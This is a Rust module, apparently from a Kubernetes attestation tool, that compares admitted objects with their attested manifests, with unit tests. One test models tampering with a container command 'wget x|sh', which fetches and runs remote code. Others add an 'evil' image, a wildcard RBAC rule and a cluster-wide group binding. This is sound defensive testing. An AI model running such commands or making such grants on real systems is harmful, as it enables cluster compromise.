//! Whether an object as admitted is exactly what its attested manifest declared.
//!
//! Every field of the admitted object is compared. One the manifest does not declare is a
//! difference unless:
//! - (a) the API server's defaulting adds it for that kind, with that value (`attest::defaults`,
//!   proven against a real kube-apiserver in the real-cluster tier);
//! - (b) it is `status`, or under `metadata` and owned by the API server (uid, resourceVersion,
//!   generation, managedFields, creationTimestamp, …) or by the GitOps agent (Flux's, Argo CD's
//!   and Helm's labels and annotations, `last-applied-configuration`);
//! - (c) it is ignored (`--attestation-ignore-field`), e.g. `spec.replicas` under an autoscaler;
//! - (d) it is a container the operator lets a mutating webhook inject, by name
//!   (`--attestation-allow-injected istio-proxy`, none by default).
//!
//! Lists whose declared items all have a `name` (containers, env, ports, volumes) match as sets:
//! the same names, none twice, no extras. Other lists must be equal, item for item. The API
//! server's rewrites of what was declared are accounted for: a declared `null`, `{}` or `[]` may
//! be absent; numbers compare by value; quantities compare by value (`0.5` is stored as `500m`)
//! under `resources` and other quantity fields only.

use serde_json::Value;

use super::defaults;

/// An ignored field that is not a dotted path.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0:?} is not a field path (e.g. Deployment:spec.replicas)")]
pub struct NotAFieldPath(pub String);

/// A field to leave out of the check, for some kinds or all.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IgnoredField {
    /// The kinds it applies to (empty: every kind).
    pub kinds: Vec<String>,
    /// Dotted path from the object's root; `*` matches any key or list item.
    pub path: Vec<String>,
}

impl IgnoredField {
    /// `KIND[,KIND…]:PATH` or `PATH` (every kind), e.g. `Deployment:spec.replicas`.
    pub fn parse(s: &str) -> Result<IgnoredField, NotAFieldPath> {
        let (kinds, path) = match s.split_once(':') {
            Some((k, p)) => (k.split(',').map(|k| k.trim().to_string()).collect(), p),
            None => (Vec::new(), s),
        };
        let path: Vec<String> = path.split('.').map(str::to_string).collect();
        if path.iter().any(String::is_empty) {
            return Err(NotAFieldPath(s.to_string()));
        }
        Ok(IgnoredField { kinds, path })
    }

    pub(super) fn matches(&self, kind: &str, path: &[String]) -> bool {
        (self.kinds.is_empty() || self.kinds.iter().any(|k| k == kind))
            && self.path.len() == path.len()
            && self.path.iter().zip(path).all(|(p, q)| p == "*" || p == q)
    }
}

/// The first field in which the admitted object differs from what was attested. Names the
/// path, never a value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Difference {
    /// Dotted path of the field (list items by name, or by index).
    pub path: String,
    /// What differs.
    pub what: DifferenceKind,
}

/// How a field differs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DifferenceKind {
    /// Declared, but not in the admitted object.
    Missing,
    /// Declared with another value.
    Changed,
    /// In the admitted object, but neither declared nor a default.
    Added,
    /// A named list holds the name twice (the last one wins in the kubelet).
    Duplicate,
}

impl std::fmt::Display for Difference {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let what = match self.what {
            DifferenceKind::Missing => "is missing from what was attested",
            DifferenceKind::Changed => "is changed from what was attested",
            DifferenceKind::Added => "was added: it is not in what was attested",
            DifferenceKind::Duplicate => "appears twice: what was attested has it once",
        };
        write!(f, "{} {what}", self.path)
    }
}

/// What may differ besides defaults and server- and agent-owned metadata.
#[derive(Debug, Clone, Default)]
pub struct Allowed<'a> {
    /// Fields left out of the check.
    pub ignored: &'a [IgnoredField],
    /// Container names a mutating webhook may add to a pod template.
    pub injected: &'a [String],
}

/// `Ok` when `admitted` is exactly `declared`, up to what the module's rules allow.
pub fn matches(
    declared: &Value,
    admitted: &Value,
    allowed: &Allowed<'_>,
) -> Result<(), Difference> {
    let kind = declared.get("kind").and_then(Value::as_str).unwrap_or("");
    let normalized;
    let declared = if kind == "Secret" && declared.get("stringData").is_some() {
        normalized = secret_as_stored(declared);
        &normalized
    } else {
        declared
    };
    let mut cx = Walk {
        kind,
        allowed,
        declared_root: declared,
        path: Vec::new(),
    };
    cx.walk(Some(declared), Some(admitted))
}

struct Walk<'a> {
    kind: &'a str,
    allowed: &'a Allowed<'a>,
    declared_root: &'a Value,
    path: Vec<String>,
}

impl Walk<'_> {
    fn differs(&self, what: DifferenceKind) -> Difference {
        Difference {
            path: if self.path.is_empty() {
                "the object".into()
            } else {
                self.path.join(".")
            },
            what,
        }
    }

    fn ignored(&self) -> bool {
        self.allowed
            .ignored
            .iter()
            .any(|f| f.matches(self.kind, &self.path))
    }

    fn child(
        &mut self,
        label: String,
        d: Option<&Value>,
        a: Option<&Value>,
    ) -> Result<(), Difference> {
        self.path.push(label);
        let r = self.walk(d, a);
        self.path.pop();
        r
    }

    fn walk(
        &mut self,
        declared: Option<&Value>,
        admitted: Option<&Value>,
    ) -> Result<(), Difference> {
        if self.ignored() {
            return Ok(());
        }
        // A declared null is no declaration: the server drops it.
        let declared = declared.filter(|d| !d.is_null());
        match (declared, admitted) {
            (None, None) => Ok(()),
            (Some(d), None) => {
                if droppable(d) {
                    Ok(())
                } else {
                    Err(self.differs(DifferenceKind::Missing))
                }
            }
            (None, Some(a)) => self.extra(a),
            (Some(Value::Object(d)), Some(Value::Object(a))) => {
                for (k, dv) in d {
                    self.child(k.clone(), Some(dv), a.get(k))?;
                }
                for (k, av) in a {
                    if !d.contains_key(k) {
                        self.child(k.clone(), None, Some(av))?;
                    }
                }
                Ok(())
            }
            (Some(Value::Array(d)), Some(Value::Array(a))) => self.list(d, a),
            (Some(d), Some(a)) if self.scalars_equal(d, a) => Ok(()),
            _ => Err(self.differs(DifferenceKind::Changed)),
        }
    }

    /// A list: by name when every declared item has one, else item for item.
    fn list(&mut self, d: &[Value], a: &[Value]) -> Result<(), Difference> {
        let name = |v: &Value| v.get("name").and_then(Value::as_str).map(str::to_string);
        if !d.is_empty() && d.iter().all(|i| name(i).is_some()) {
            let mut seen = std::collections::HashSet::new();
            for item in a {
                let Some(n) = name(item) else {
                    return self.child("(an item without a name)".into(), None, Some(item));
                };
                if !seen.insert(n.clone()) {
                    self.path.push(n);
                    let e = self.differs(DifferenceKind::Duplicate);
                    self.path.pop();
                    return Err(e);
                }
            }
            for item in d {
                let n = name(item).unwrap_or_default();
                let found = a.iter().find(|x| name(x).as_deref() == Some(&n));
                self.child(n, Some(item), found)?;
            }
            // An item the manifest does not have is added whole (no default adds list items).
            for item in a {
                let n = name(item).unwrap_or_default();
                if !d.iter().any(|x| name(x).as_deref() == Some(&n)) && !self.injected(&n) {
                    self.path.push(n);
                    let ignored = self.ignored();
                    let e = self.differs(DifferenceKind::Added);
                    self.path.pop();
                    if !ignored {
                        return Err(e);
                    }
                }
            }
            return Ok(());
        }
        for i in 0..d.len().max(a.len()) {
            self.child(i.to_string(), d.get(i), a.get(i))?;
        }
        Ok(())
    }

    /// Whether anything in `a` (at the current path) is allowed without being declared: then
    /// an addition is reported at the field inside it that is not, else at `a` itself.
    fn any_allowed(&mut self, a: &Value) -> bool {
        if self.ignored()
            || defaults::owned(&self.path)
            || defaults::lookup(self.kind, &self.path).is_some()
        {
            return true;
        }
        let children: Vec<(String, &Value)> = match a {
            Value::Object(m) => m.iter().map(|(k, v)| (k.clone(), v)).collect(),
            Value::Array(items) => items
                .iter()
                .enumerate()
                .map(|(i, v)| (i.to_string(), v))
                .collect(),
            _ => return false,
        };
        children.into_iter().any(|(label, v)| {
            self.path.push(label);
            let r = self.any_allowed(v);
            self.path.pop();
            r
        })
    }

    /// A container a mutating webhook may inject into a pod template.
    fn injected(&self, name: &str) -> bool {
        matches!(
            self.path.last().map(String::as_str),
            Some("containers" | "initContainers")
        ) && defaults::pod_spec_relative(self.kind, &self.path).is_some()
            && self.allowed.injected.iter().any(|i| i == name)
    }

    /// A field the manifest does not declare: allowed when owned by the server or the agent,
    /// or a default; an object is allowed when each of its fields is (so `{}` always is).
    fn extra(&mut self, a: &Value) -> Result<(), Difference> {
        if self.ignored() || defaults::owned(&self.path) {
            return Ok(());
        }
        if let Some(default) = defaults::lookup(self.kind, &self.path) {
            if default.allows(a, self.sibling_declared()) {
                return Ok(());
            }
            return Err(self.differs(DifferenceKind::Added));
        }
        let empty = match a {
            Value::Object(m) => m.is_empty(),
            Value::Array(items) => items.is_empty(),
            _ => false,
        };
        if !empty && !self.any_allowed(a) {
            return Err(self.differs(DifferenceKind::Added));
        }
        match a {
            Value::Object(m) => {
                for (k, v) in m {
                    self.child(k.clone(), None, Some(v))?;
                }
                Ok(())
            }
            Value::Array(items) => {
                for (i, v) in items.iter().enumerate() {
                    self.child(i.to_string(), None, Some(v))?;
                }
                Ok(())
            }
            _ => Err(self.differs(DifferenceKind::Added)),
        }
    }

    /// The declared object holding the current field, for defaults that copy a sibling
    /// (a Service port's `targetPort` is its `port`).
    fn sibling_declared(&self) -> Option<&Value> {
        let mut v = self.declared_root;
        for label in &self.path[..self.path.len().saturating_sub(1)] {
            v = match v {
                Value::Object(m) => m.get(label)?,
                Value::Array(items) => match label.parse::<usize>() {
                    Ok(i) if !items.iter().all(|x| x.get("name").is_some()) => items.get(i)?,
                    _ => items
                        .iter()
                        .find(|x| x.get("name").and_then(Value::as_str) == Some(label))?,
                },
                _ => return None,
            };
        }
        Some(v)
    }

    fn scalars_equal(&self, d: &Value, a: &Value) -> bool {
        if d == a {
            return true;
        }
        match (d, a) {
            (Value::Number(x), Value::Number(y)) => x.as_f64() == y.as_f64(),
            // A quantity may be declared as a number or a string and is stored canonicalised.
            (Value::Number(_) | Value::String(_), Value::String(_))
            | (Value::String(_), Value::Number(_))
                if defaults::is_quantity(&self.path) =>
            {
                let text = |v: &Value| match v {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                matches!((quantity(&text(d)), quantity(&text(a))), (Some(x), Some(y)) if x == y)
            }
            _ => false,
        }
    }
}

/// A Secret as the API server stores it: `stringData` merged into `data`, base64-encoded.
fn secret_as_stored(declared: &Value) -> Value {
    use base64::Engine as _;
    let mut v = declared.clone();
    if let Some(Value::Object(strings)) = v.as_object_mut().and_then(|o| o.remove("stringData")) {
        let data = v.as_object_mut().map(|o| {
            o.entry("data")
                .or_insert_with(|| Value::Object(Default::default()))
        });
        if let Some(Value::Object(data)) = data {
            for (k, s) in strings {
                let text = s
                    .as_str()
                    .map(str::to_string)
                    .unwrap_or_else(|| s.to_string());
                data.insert(
                    k,
                    Value::String(base64::engine::general_purpose::STANDARD.encode(text)),
                );
            }
        }
    }
    v
}

/// What the API server drops when it stores an object.
fn droppable(v: &Value) -> bool {
    match v {
        Value::Null => true,
        Value::Object(m) => m.is_empty(),
        Value::Array(a) => a.is_empty(),
        _ => false,
    }
}

/// A Kubernetes resource quantity as an exact `(mantissa, power of ten)`, trailing zeros moved
/// into the exponent: `1.5`, `1500m` and `15e-1` are all `(15, -1)`; `1Gi` is `(1073741824, 0)`.
fn quantity(s: &str) -> Option<(i128, i32)> {
    let (number, binary, decimal) = match s {
        _ if s.ends_with("Ki") => (&s[..s.len() - 2], 10, 0),
        _ if s.ends_with("Mi") => (&s[..s.len() - 2], 20, 0),
        _ if s.ends_with("Gi") => (&s[..s.len() - 2], 30, 0),
        _ if s.ends_with("Ti") => (&s[..s.len() - 2], 40, 0),
        _ if s.ends_with("Pi") => (&s[..s.len() - 2], 50, 0),
        _ if s.ends_with("Ei") => (&s[..s.len() - 2], 60, 0),
        _ => match s.chars().last()? {
            'n' => (&s[..s.len() - 1], 0, -9),
            'u' => (&s[..s.len() - 1], 0, -6),
            'm' => (&s[..s.len() - 1], 0, -3),
            'k' => (&s[..s.len() - 1], 0, 3),
            'M' => (&s[..s.len() - 1], 0, 6),
            'G' => (&s[..s.len() - 1], 0, 9),
            'T' => (&s[..s.len() - 1], 0, 12),
            'P' => (&s[..s.len() - 1], 0, 15),
            'E' => (&s[..s.len() - 1], 0, 18),
            _ => (s, 0, 0),
        },
    };
    let (number, exp) = match number.split_once(['e', 'E']) {
        Some((n, e)) => (n, e.parse::<i32>().ok()?),
        None => (number, 0),
    };
    let (sign, digits) = match number.strip_prefix('-') {
        Some(d) => (-1, d),
        None => (1, number.strip_prefix('+').unwrap_or(number)),
    };
    let (int, frac) = digits.split_once('.').unwrap_or((digits, ""));
    if int.is_empty() && frac.is_empty()
        || !(int.chars().chain(frac.chars())).all(|c| c.is_ascii_digit())
    {
        return None;
    }
    let all = format!("{int}{frac}");
    if all.len() > 30 || exp.abs() > 100 {
        return None;
    }
    let mut mantissa: i128 = all.parse().ok()?;
    mantissa = mantissa.checked_mul(1i128.checked_shl(binary)?)? * sign;
    let mut e = exp + decimal - frac.len() as i32;
    if mantissa == 0 {
        return Some((0, 0));
    }
    while mantissa % 10 == 0 {
        mantissa /= 10;
        e += 1;
    }
    Some((mantissa, e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn deployment() -> Value {
        json!({"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "web", "namespace": "shop", "labels": {"app": "web"}, "annotations": {}},
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "web"}},
              "template": {"metadata": {"labels": {"app": "web"}}, "spec": {
                "containers": [{"name": "app", "image": "registry.example.com/web:1.2",
                  "env": [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}],
                  "resources": {"requests": {"cpu": 0.5, "memory": "1Gi"}}}],
                "tolerations": [{"key": "a", "operator": "Exists"}]}}}})
    }

    /// What kube-apiserver stores after defaulting, with Flux's labels.
    fn as_admitted() -> Value {
        let mut a = deployment();
        a["metadata"].as_object_mut().unwrap().remove("annotations");
        a["metadata"]["uid"] = "0b3c".into();
        a["metadata"]["generation"] = 1.into();
        a["metadata"]["labels"]["kustomize.toolkit.fluxcd.io/name"] = "apps".into();
        a["spec"]["strategy"] = json!({"type": "RollingUpdate",
            "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}});
        a["spec"]["revisionHistoryLimit"] = 10.into();
        a["spec"]["progressDeadlineSeconds"] = 600.into();
        let pod = &mut a["spec"]["template"]["spec"];
        pod["containers"][0]["imagePullPolicy"] = "IfNotPresent".into();
        pod["containers"][0]["terminationMessagePath"] = "/dev/termination-log".into();
        pod["containers"][0]["resources"]["requests"]["cpu"] = "500m".into();
        pod["containers"][0]["resources"]["requests"]["memory"] = "1024Mi".into();
        pod["dnsPolicy"] = "ClusterFirst".into();
        pod["securityContext"] = json!({});
        pod["restartPolicy"] = "Always".into();
        a["status"] = json!({"replicas": 2});
        a
    }

    fn check(admitted: &Value) -> Result<(), Difference> {
        matches(&deployment(), admitted, &Allowed::default())
    }

    #[test]
    fn defaults_and_owned_metadata_pass_and_a_changed_declared_field_fails() {
        assert_eq!(check(&as_admitted()), Ok(()));

        let mut changed = as_admitted();
        changed["spec"]["template"]["spec"]["containers"][0]["image"] = "evil:latest".into();
        let d = check(&changed).unwrap_err();
        assert_eq!(d.path, "spec.template.spec.containers.app.image");
        assert_eq!(d.what, DifferenceKind::Changed);
        assert!(!d.to_string().contains("evil"), "values are never quoted");

        let mut dropped = as_admitted();
        dropped["metadata"]["labels"]
            .as_object_mut()
            .unwrap()
            .remove("app");
        assert_eq!(check(&dropped).unwrap_err().path, "metadata.labels.app");

        let mut scaled = as_admitted();
        scaled["spec"]["replicas"] = 5.into();
        assert_eq!(check(&scaled).unwrap_err().path, "spec.replicas");
        let hpa = [IgnoredField::parse("Deployment:spec.replicas").unwrap()];
        let allowed = Allowed {
            ignored: &hpa,
            ..Allowed::default()
        };
        assert_eq!(matches(&deployment(), &scaled, &allowed), Ok(()));
        // A default with another value is not a default.
        let mut other = as_admitted();
        other["spec"]["revisionHistoryLimit"] = 0.into();
        assert_eq!(check(&other).unwrap_err().path, "spec.revisionHistoryLimit");
    }

    /// The additions a stolen agent token could make to an attested Deployment (issue 25).
    #[test]
    fn what_was_never_attested_is_a_difference() {
        let pod = |f: &dyn Fn(&mut Value)| {
            let mut a = as_admitted();
            f(&mut a["spec"]["template"]["spec"]);
            a
        };
        let cases: Vec<(Value, &str, DifferenceKind)> = vec![
            (
                pod(&|p| p["containers"][0]["command"] = json!(["sh", "-c", "wget x|sh"])),
                "spec.template.spec.containers.app.command",
                DifferenceKind::Added,
            ),
            (
                pod(&|p| {
                    p["containers"]
                        .as_array_mut()
                        .unwrap()
                        .push(json!({"name": "reader", "image": "registry.example.com/r:1"}))
                }),
                "spec.template.spec.containers.reader",
                DifferenceKind::Added,
            ),
            (
                pod(&|p| {
                    p["containers"][0]["env"]
                        .as_array_mut()
                        .unwrap()
                        .push(json!({"name": "EXTRA", "value": "1"}))
                }),
                "spec.template.spec.containers.app.env.EXTRA",
                DifferenceKind::Added,
            ),
            (
                pod(&|p| p["containers"][0]["envFrom"] = json!([{"secretRef": {"name": "all"}}])),
                "spec.template.spec.containers.app.envFrom",
                DifferenceKind::Added,
            ),
            (
                pod(&|p| {
                    p["containers"][0]["env"].as_array_mut().unwrap().push(json!(
                        {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}}
                    ))
                }),
                "spec.template.spec.containers.app.env.DB_PASSWORD",
                DifferenceKind::Duplicate,
            ),
            (
                pod(&|p| p["serviceAccountName"] = "admin-sa".into()),
                "spec.template.spec.serviceAccountName",
                DifferenceKind::Added,
            ),
            (
                pod(&|p| {
                    p["tolerations"]
                        .as_array_mut()
                        .unwrap()
                        .push(json!({"operator": "Exists"}))
                }),
                "spec.template.spec.tolerations.1",
                DifferenceKind::Added,
            ),
        ];
        for (admitted, path, what) in cases {
            let d = check(&admitted).unwrap_err();
            assert_eq!((d.path.as_str(), d.what), (path, what), "{d}");
        }
        // An annotation nobody owns is a change too (break-glass is one).
        let mut a = as_admitted();
        a["metadata"]["annotations"] = json!({"sealgate.dev/break-glass": "x"});
        assert_eq!(
            check(&a).unwrap_err().path,
            "metadata.annotations.sealgate.dev/break-glass"
        );
    }

    #[test]
    fn rbac_additions_are_differences() {
        let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": {"name": "r", "namespace": "shop"},
            "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]});
        let mut more = role.clone();
        more["rules"]
            .as_array_mut()
            .unwrap()
            .push(json!({"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}));
        let d = matches(&role, &more, &Allowed::default()).unwrap_err();
        assert_eq!(
            (d.path.as_str(), d.what),
            ("rules.1", DifferenceKind::Added)
        );
        let binding = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": {"name": "b", "namespace": "shop"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "r"},
            "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]});
        let mut wider = binding.clone();
        wider["subjects"].as_array_mut().unwrap().push(
            json!({"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}),
        );
        let d = matches(&binding, &wider, &Allowed::default()).unwrap_err();
        assert_eq!(
            (d.path.as_str(), d.what),
            ("subjects.system:authenticated", DifferenceKind::Added)
        );
    }

    #[test]
    fn an_injected_sidecar_passes_only_when_named() {
        let mut a = as_admitted();
        a["spec"]["template"]["spec"]["containers"]
            .as_array_mut()
            .unwrap()
            .insert(0, json!({"name": "istio-proxy", "image": "proxy"}));
        assert_eq!(
            check(&a).unwrap_err().path,
            "spec.template.spec.containers.istio-proxy"
        );
        let injected = ["istio-proxy".to_string()];
        let allowed = Allowed {
            injected: &injected,
            ..Allowed::default()
        };
        assert_eq!(matches(&deployment(), &a, &allowed), Ok(()));
    }

    #[test]
    fn quantities_compare_by_value_only_where_they_are_quantities() {
        for (a, b) in [
            ("0.5", "500m"),
            ("1Gi", "1024Mi"),
            ("1.5", "1500m"),
            ("15e-1", "1500m"),
            ("2k", "2000"),
            ("0", "0m"),
        ] {
            assert_eq!(quantity(a), quantity(b), "{a} = {b}");
        }
        for (a, b) in [("1G", "1Gi"), ("1", "1m"), ("100m", "1")] {
            assert_ne!(quantity(a), quantity(b), "{a} != {b}");
        }
        assert_eq!(quantity("web"), None);
        assert_eq!(quantity("1e999"), None);
        // Outside resources, "1k" and "1000" are different strings.
        let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c"}, "data": {"n": "1k"}});
        let mut other = cm.clone();
        other["data"]["n"] = "1000".into();
        assert!(matches(&cm, &other, &Allowed::default()).is_err());
    }
}
